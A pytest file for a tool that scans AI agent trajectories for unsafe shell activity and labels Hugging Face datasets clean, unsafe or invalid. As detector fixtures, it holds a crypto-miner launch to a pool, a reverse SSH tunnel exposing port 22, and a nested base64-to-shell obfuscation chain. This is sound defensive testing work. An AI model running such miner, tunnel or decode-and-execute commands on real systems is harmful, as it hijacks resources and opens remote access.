"""The datasets adapter: safety columns from the same Scanner, the split, and datasets in and out of runs."""
import json
import pickle
from pathlib import Path

import datasets
import pytest

from safefilter.config import load_config
from safefilter.errors import SafeFilterError
from safefilter.hf import SAFETY_COLUMNS, SafetyColumns, add_safety_columns, split_safety
from safefilter.run import run

from conftest import bash, traj

EXAMPLES = Path(__file__).resolve().parent.parent / "examples"
MINI = str(Path(__file__).parent / "data" / "mini_pack.yaml")
CHAT = [json.loads(line) for line in (EXAMPLES / "trajectories" / "chat.jsonl").read_text().splitlines()]
LABELS = {r["id"]: r for r in map(json.loads, (EXAMPLES / "labels.jsonl").read_text().splitlines())}


def dataset(records):
    """A real Dataset; mixed shapes inside messages (string or list content) are stored as Json."""
    return datasets.Dataset.from_list(records, on_mixed_types="use_json")


@pytest.fixture(scope="module")
def chat():
    return dataset(CHAT)


@pytest.fixture(scope="module")
def scored(chat):
    return add_safety_columns(chat)


def test_map_adds_columns_and_keeps_the_others(chat, scored):
    assert scored.column_names == chat.column_names + list(SAFETY_COLUMNS)
    assert scored.select_columns(chat.column_names).to_list() == chat.to_list()
    assert all(r["error"] is None for r in scored)  # rows without an id are read too (null id dropped)
    assert scored.features["findings"].feature["score"].dtype == "float64"


def test_verdicts_agree_with_scanner_scan(scored, scanner):
    for record, row in zip(CHAT, scored):
        verdict = scanner.scan(record)
        assert row["unsafe"] is verdict.unsafe
        assert row["categories"] == list(verdict.categories)
        assert row["severity"] == (verdict.severity.label if verdict.severity else None)
        assert row["first_unsafe_message"] == verdict.first_unsafe_message
        assert row["findings"] == [f.to_dict() for f in verdict.findings]
    assert sum(row["unsafe"] for row in scored) == 14


def test_num_proc_2_gives_the_same_result(chat, scored):
    assert add_safety_columns(chat, num_proc=2, batch_size=8).to_list() == scored.to_list()


def test_scanner_is_built_once_per_process_and_not_pickled(monkeypatch):
    from safefilter.executors import scanners

    built = []
    real = scanners.build_scanner
    monkeypatch.setattr(scanners, "_CACHE", {})  # the per-process cache Ray workers share with datasets
    monkeypatch.setattr(scanners, "build_scanner", lambda config: built.append(1) or real(config))
    config = {"rules": {"packs": [MINI]}}
    fn = SafetyColumns(config)
    SafetyColumns(config)
    batch = {"id": ["a"], "messages": [traj(bash("./xmrig -o pool:3333"))["messages"]]}
    clone = pickle.loads(pickle.dumps(fn))
    assert clone(batch) == fn(batch) and fn(batch)["unsafe"] == [True]
    assert len(built) == 1
    assert len(pickle.dumps(fn)) < 10_000  # config and column names only, no compiled rules
    stricter = SafetyColumns({**config, "policy": {"min_severity": "critical"}})
    assert stricter.fingerprint != fn.fingerprint  # another config: another datasets cache entry


def test_split_counts_follow_the_labels(chat):
    parts = split_safety(chat, num_proc=2)
    labeled_unsafe = {r["id"] for r in CHAT if r.get("id") in LABELS and LABELS[r["id"]]["unsafe"]}
    assert set(parts["unsafe"]["id"]) == labeled_unsafe
    assert (len(parts["clean"]), len(parts["unsafe"]), len(parts["invalid"])) == (len(CHAT) - 14, 14, 0)
    assert parts["clean"].column_names == chat.column_names
    assert parts["unsafe"].column_names == chat.column_names + [c for c in SAFETY_COLUMNS if c != "error"]
    for row in parts["unsafe"]:
        assert set(LABELS[row["id"]]["categories"]) <= set(row["categories"])


def test_broken_rows_do_not_stop_the_map():
    good = traj(bash("./xmrig -o stratum+tcp://pool.example:3333 -u WALLET"), rid="good")
    rows = [good, {"id": "text", "messages": "not json"}, {"id": "none", "messages": None},
            {"id": "shape", "messages": [{"content": 3}]}]
    scored = add_safety_columns(dataset(rows))
    assert scored["unsafe"] == [True, None, None, None]
    assert scored["error"][0] is None and all(scored["error"][1:])
    parts = split_safety(dataset(rows))
    assert parts["invalid"]["id"] == ["text", "none", "shape"] and "error" in parts["invalid"].column_names


def test_column_names_json_text_and_prefix(scanner):
    record = traj(bash("ssh -fNR 9000:localhost:22 u@203.0.113.9"), rid="x")
    ds = datasets.Dataset.from_list([{"uid": "tun-1", "conversation": json.dumps(record["messages"]),
                                      "unsafe": "a column the user already had"}])
    with pytest.raises(SafeFilterError, match="prefix="):
        add_safety_columns(ds, messages_column="conversation", id_column="uid")
    scored = add_safety_columns(ds, messages_column="conversation", id_column="uid", prefix="sf_")
    row = scored[0]
    assert row["unsafe"] == "a column the user already had" and row["sf_unsafe"] is True
    assert row["sf_categories"] == list(scanner.scan(record).categories) == ["tunneling"]


def test_steps_shaped_rows():
    rows = [json.loads(line) for line in (EXAMPLES / "trajectories" / "steps.jsonl").read_text().splitlines()]
    scored = add_safety_columns(dataset(rows))
    assert scored["unsafe"] == [LABELS[r["id"]]["unsafe"] for r in rows]


def run_on(input_path, out, *overrides):
    config, applied = load_config(None, [f"input={input_path}", f"output={out}", "progress=false", *overrides])
    return run(config, overrides=applied)


def test_run_reads_saved_dataset_and_parquet_folder(chat, tmp_path):
    datasets.DatasetDict({"train": chat, "test": chat.select(range(5))}).save_to_disk(str(tmp_path / "saved"))
    (tmp_path / "pq").mkdir()
    for i, part in enumerate((chat.select(range(0, 20)), chat.select(range(20, len(CHAT))))):
        part.to_parquet(str(tmp_path / "pq" / f"part-{i}.parquet"))
    summary = run_on(json.dumps([str(tmp_path / "saved"), str(tmp_path / "pq")]), tmp_path / "run")
    c = summary.counts
    # 5 + 40 rows saved (dataset_dict.json, state.json etc. are not read as input), 40 rows in parquet
    assert (c["input"], c["unsafe"], c["invalid"]) == (2 * len(CHAT) + 5, 2 * 14, 0)
    manifest = json.loads((tmp_path / "run" / "manifest.json").read_text())
    assert [Path(i["path"]).name for i in manifest["inputs"]] == [
        "data-00000-of-00001.arrow", "data-00000-of-00001.arrow", "part-0.parquet", "part-1.parquet"]
    first_clean = json.loads((tmp_path / "run" / "clean" / "part-00000-00000.jsonl").read_text().splitlines()[0])
    assert first_clean == CHAT[0]  # rows come back as the records (Json columns decoded)


def test_run_writes_a_datasetdict_on_request(tmp_path):
    inputs = [str(EXAMPLES / "trajectories"), str(EXAMPLES / "broken")]
    summary = run_on(json.dumps(inputs), tmp_path / "run", "dataset_output=true")
    parts = datasets.load_from_disk(str(tmp_path / "run" / "dataset"))
    assert {k: len(v) for k, v in parts.items()} == {k: summary.counts[k] for k in ("clean", "unsafe", "invalid")}
    assert summary.counts["unsafe"] == 15 and summary.counts["invalid"] == 5
    unsafe = {row["id"]: row for row in parts["unsafe"]}
    assert set(unsafe) == {i for i, label in LABELS.items() if label["unsafe"]}
    assert all(row["safety"]["unsafe"] and row["safety"]["findings"] for row in unsafe.values())
    assert "safety" not in parts["clean"].column_names
    assert {r["id"] for r in parts["clean"] if r["id"]} <= set(LABELS) | {"broken-good-01"}
    assert all(row["error"] for row in parts["invalid"])


def test_dataset_output_of_a_run_with_an_empty_output_loads(tmp_path):
    """An all-clean run has no unsafe/ shards: dataset_output used to end in datasets' SchemaInferenceError."""
    import datasets

    from safefilter.cli import main

    src = tmp_path / "in.jsonl"
    src.write_text(json.dumps({"id": "a", "messages": [{"role": "user", "content": "hi"}]}) + "\n")
    assert main(["run", "--config", "configs/rules-only.yaml", "--input", str(src), "--output",
                 str(tmp_path / "run"), "--set", "dataset_output=true", "--no-progress"]) == 0
    splits = datasets.load_from_disk(str(tmp_path / "run" / "dataset"))
    assert (splits["clean"].num_rows, splits["unsafe"].num_rows, splits["invalid"].num_rows) == (1, 0, 0)
    assert "safety" in splits["unsafe"].column_names


def _cut_short_record(rid: str = "deep") -> dict:
    """A trajectory whose payload sits one encoding layer deeper than the decoder goes."""
    import base64

    text = "uname -a"
    for _ in range(5):
        text = "echo " + base64.b64encode(text.encode()).decode() + " | base64 -d | sh"
    return traj(bash(text), rid=rid)


def test_analysis_cut_short_is_a_column_and_survives_dataset_output(tmp_path):
    """The datasets step names the limit that cut a record short, and a run's dataset/ keeps it."""
    ds = datasets.Dataset.from_list([_cut_short_record(), traj(bash("ls"), rid="plain")])
    scored = add_safety_columns(ds)
    by_id = {row["id"]: row for row in scored}
    assert by_id["deep"]["unsafe"] is True
    assert "decode_depth" in {i["reason"] for i in by_id["deep"]["analysis_incomplete"]}
    assert by_id["plain"]["analysis_incomplete"] == []

    src = tmp_path / "in.jsonl"
    src.write_text(json.dumps(_cut_short_record()) + "\n")
    from safefilter.cli import main

    assert main(["run", "--config", "configs/rules-only.yaml", "--input", str(src), "--output",
                 str(tmp_path / "run"), "--set", "dataset_output=true", "--no-progress"]) == 0
    counts = json.loads((tmp_path / "run" / "manifest.json").read_text())["counts"]
    assert counts["analysis_incomplete"] == 1 and counts["unsafe"] == 1
    unsafe = datasets.load_from_disk(str(tmp_path / "run" / "dataset"))["unsafe"]
    assert unsafe.num_rows == 1
    assert "decode_depth" in {i["reason"] for i in unsafe[0]["safety"]["analysis_incomplete"]}
